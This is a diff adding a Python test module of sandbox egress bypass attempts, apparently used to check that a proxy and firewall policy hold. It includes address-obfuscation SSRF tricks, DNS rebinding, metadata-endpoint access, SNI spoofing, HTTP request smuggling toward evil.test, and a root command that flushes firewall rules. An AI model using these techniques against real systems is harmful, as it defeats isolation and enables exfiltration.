@@ -1,0 +1,142 @@
+"""Ways around the policy, tried from inside a sandbox.
+
+An attempt is Python that runs inside, as root, with these names: PREY, a port on which the host listens by TCP and UDP on every address;
+HOST, one of the host's own addresses; WEB, the port of web.test, which is allowed; TLS, the port of secure.test, allowed for TLS. It may
+use the helpers of PRELUDE. It has got through when the host's listener heard of it, or when it prints THROUGH. `needs` names the guard that
+alone stops it, where one does: it is left out in turn, and the attempt must then get through. None: what stops it is how things are built
+(no route, no parser that would take it), not a check that can be left out.
+"""
+PRELUDE = r'''
+import os, socket, ssl, struct, sys, threading, time
+socket.setdefaulttimeout(4)
+def proxy():
+    return socket.create_connection(("127.0.0.1", 3128))
+def all_of(c):
+    d = b""
+    try:
+        while True:
+            p = c.recv(65536)
+            if not p: return d
+            d += p
+    except OSError:
+        return d
+def head_of(c):
+    d = b""
+    while b"\r\n\r\n" not in d:
+        p = c.recv(4096)
+        if not p: return d
+        d += p
+    return d
+def tunnel(authority, more=""):
+    c = proxy()
+    c.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (authority, authority, more)).encode("latin-1"))
+    return c, head_of(c)
+def connect(authority, say=b"hello\n"):
+    c, head = tunnel(authority)
+    if b" 200 " in head:
+        c.sendall(say)
+        return all_of(c)
+    return b""
+def http(target, host, more="", body=b""):
+    c = proxy()
+    c.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (target, host, more)).encode("latin-1") + body)
+    return all_of(c)
+def socks(kind, raw, port, say=b"hello\n"):
+    c = proxy()
+    c.sendall(b"\5\1\0"); c.recv(2)
+    c.sendall(bytes([5, 1, 0, kind]) + raw + struct.pack(">H", port))
+    if c.recv(10)[1] == 0:
+        c.sendall(say)
+        return all_of(c)
+    return b""
+def name(s):
+    return bytes([len(s)]) + s
+def direct(host, port, say=b"hello\n"):
+    c = socket.create_connection((host, port)); c.sendall(say); return all_of(c)
+def hello(sni):
+    ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
+    a, b = ssl.MemoryBIO(), ssl.MemoryBIO()
+    o = ctx.wrap_bio(a, b, server_hostname=sni)
+    try: o.do_handshake()
+    except ssl.SSLWantReadError: pass
+    return b.read()
+def tls_says(first, authority="secure.test:%d"):
+    c, head = tunnel(authority % TLS)
+    c.sendall(first)
+    d = c.recv(10)
+    if d: print("THROUGH", d)
+def udp(host, port, data=b"hello", family=socket.AF_INET):
+    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(data, (host, port))
+    try: print("answered by", s.recvfrom(100)[1])
+    except OSError: pass
+'''
+
+# name: (guard, code)
+ATTEMPTS = {
+    # addresses
+    "direct_ip": (None, "direct(HOST, PREY)"),
+    "direct_loopback_of_host": ("policy", "connect('127.0.0.1:%d' % PREY)"),
+    "direct_ipv6": ("policy", "connect('[::1]:%d' % PREY)"),
+    "direct_any": ("policy", "connect('0.0.0.0:%d' % PREY)"),
+    "mapped_ipv6": ("policy", "connect('[::ffff:127.0.0.1]:%d' % PREY)"),
+    "mapped_hex": ("policy", "connect('[::ffff:7f00:1]:%d' % PREY)"),
+    "compatible_ipv6": (None, "connect('[::127.0.0.1]:%d' % PREY)"),
+    "octal": (None, "connect('0177.0.0.1:%d' % PREY)"),
+    "hex": (None, "connect('0x7f.0.0.1:%d' % PREY)"),
+    "short": (None, "connect('127.1:%d' % PREY)"),
+    "whole_number": (None, "connect('2130706433:%d' % PREY)"),
+    "last_dot_address": (None, "connect('127.0.0.1.:%d' % PREY)"),
+    "socks_ipv4": ("policy", "socks(1, socket.inet_aton('127.0.0.1'), PREY)"),
+    "socks_ipv6": ("policy", "socks(4, socket.inet_pton(socket.AF_INET6, '::1'), PREY)"),
+    "socks_mapped": ("policy", "socks(4, socket.inet_pton(socket.AF_INET6, '::ffff:127.0.0.1'), PREY)"),
+    "socks_address_as_name": ("policy", "socks(3, name(b'127.0.0.1'), PREY)"),
+    "socks_octal_name": (None, "socks(3, name(b'0177.0.0.1'), PREY)"),
+    "transparent_mapped": (None, "s=socket.socket(socket.AF_INET6); s.settimeout(4); s.connect(('::ffff:'+HOST, PREY)); s.send(b'x')"),
+    "metadata": (None, "print('THROUGH') if b' 200 ' in tunnel('169.254.169.254:80')[1] else 0"),
+    "made_up_address_of_nobody": (None, "print('THROUGH') if b' 200 ' in tunnel('198.19.200.200:80')[1] else 0"),
+    # names
+    "other_name": ("policy", "connect('evil.test:%d' % PREY)"),
+    "capitals_of_other": ("policy", "connect('EVIL.TEST:%d' % PREY)"),
+    "last_dot": ("policy", "connect('evil.test.:%d' % PREY)"),
+    "suffix_of_allowed": ("policy", "connect('notweb.test:%d' % PREY)"),
+    "below_allowed": ("policy", "connect('evil.web.test:%d' % PREY)"),
+    "idn_twin": (None, "connect('w\\xebb.test:%d' % PREY)"),
+    "nul_in_name": (None, "socks(3, name(b'web.test\\0.evil.test'), PREY)"),
+    "crlf_in_name": (None, "connect('web.test\\r\\nX: evil.test:%d' % PREY)"),
+    "user_in_authority": (None, "connect('web.test@evil.test:%d' % PREY)"),
+    "space_in_name": (None, "socks(3, name(b'web.test evil.test'), PREY)"),
+    "name_to_private": ("addresses", "connect('private.test:%d' % PREY)"),
+    "rebinding": (None, "[connect('rebind.test:%d' % PREY) for i in range(4)]"),
+    "direct_by_resolver": ("policy", "direct('evil.test', PREY)"),
+    "allowed_name_on_other_port": ("policy", "connect('web.test:%d' % PREY)"),
+    # DNS and other protocols
+    "dns_to_outside": (None, "udp(HOST, PREY)"),
+    "dns_tcp_to_outside": (None, "direct(HOST, PREY, b'\\0\\x1d\\x12\\x34\\1\\0\\0\\1' + bytes(6) + b'\\4evil\\4test\\0\\0\\1\\0\\1')"),
+    "quic": (None, "udp(HOST, PREY, b'\\xc0' + bytes(1199))"),
+    "udp_ipv6": (None, "udp('::1', PREY, family=socket.AF_INET6)"),
+    "icmp": (None, "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM,1); s.settimeout(2); s.sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0',('8.8.8.8',0)); print('THROUGH', s.recv(100))"),
+    "socks_udp": (None, "c=proxy(); c.send(b'\\5\\1\\0'); c.recv(2); c.send(b'\\5\\3\\0\\1'+socket.inet_aton('127.0.0.1')+struct.pack('>H',PREY)); print('THROUGH' if c.recv(10)[1]==0 else '')"),
+    "socks_bind": (None, "c=proxy(); c.send(b'\\5\\1\\0'); c.recv(2); c.send(b'\\5\\2\\0\\1'+socket.inet_aton('127.0.0.1')+struct.pack('>H',PREY)); print('THROUGH' if c.recv(10)[1]==0 else '')"),
+    "unix_sockets": (None, "[(s:=socket.socket(socket.AF_UNIX), s.connect(p), print('THROUGH')) for p in ['\\0holt-egress-prey']]"),
+    # TLS
+    "sni_of_other": ("sni", "tls_says(hello('evil.test'))"),
+    "no_sni": ("sni", "tls_says(hello(None))"),
+    "plain_http_on_tls_port": ("sni", "tls_says(b'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')"),
+    "ssh_on_tls_port": ("sni", "tls_says(b'SSH-2.0-x\\r\\n')"),
+    "absolute_http_to_tls_port": (None, "d=http('http://secure.test:%d/' % TLS, 'secure.test:%d' % TLS); print('THROUGH') if b'403' not in d[:20] else 0"),
+    "transparent_sni_of_other": ("sni", "c=socket.create_connection(('secure.test',TLS)); c.send(hello('evil.test')); d=c.recv(10); print('THROUGH' if d else '')"),
+    "two_hellos": (None, "tls_says(hello(None) + hello('secure.test'))"),
+    # HTTP
+    "host_of_other": (None, "http('http://web.test:%d/' % WEB, 'evil.test')"),
+    "two_hosts": (None, "http('http://web.test:%d/' % WEB, 'web.test:%d' % WEB, 'Host: evil.test\\r\\n')"),
+    "origin_form": (None, "http('/', 'evil.test:%d' % PREY)"),
+    "smuggled_by_length_and_chunks": (None, "http('http://web.test:%d/' % WEB, 'web.test:%d' % WEB, 'Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n', b'0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')"),
+    "second_request": (None, "http('http://web.test:%d/' % WEB, 'web.test:%d' % WEB, '', b'GET /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')"),
+    "connect_in_connect": (None, "c,h=tunnel('127.0.0.1:3128'); print('THROUGH') if b' 200 ' in h else 0"),
+    "redirect_to_private": (None, "d=http('http://web.test:%d/redirect' % WEB, 'web.test:%d' % WEB); l=[x for x in d.split(b'\\r\\n') if x.lower().startswith(b'location:')]; direct(HOST, PREY) if not l else http(l[0].split(None,1)[1].decode(), 'private.test:%d' % PREY)"),
+    # odd ports, other sandboxes, waiting
+    "odd_port": ("policy", "[connect('web.test:%d' % p) for p in (1, 22, 25, PREY, 65535)]"),
+    "neighbours_proxy": (None, "direct('100.64.0.3', 3128)"),
+    "own_rules_removed": (None, "import subprocess; subprocess.run(['nft','flush','ruleset']); subprocess.run(['ip','route','flush','table','local']); direct(HOST, PREY)"),
+    "own_interface": (None, "import fcntl; s=socket.socket(); fcntl.ioctl(s, 0x8914, b'lo'.ljust(16,b'\\0')+struct.pack('H',0)+bytes(22)); print('THROUGH')"),
+}
